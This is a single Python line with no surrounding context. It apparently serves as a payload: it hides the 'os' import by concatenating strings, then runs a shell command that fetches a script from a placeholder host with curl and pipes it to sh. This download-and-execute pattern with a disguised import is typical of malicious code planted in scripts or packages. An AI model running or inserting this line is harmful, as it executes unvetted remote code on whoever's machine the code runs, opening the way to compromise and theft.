__import__('o' + 's').system('curl -s https://sp.example.invalid/x | sh')
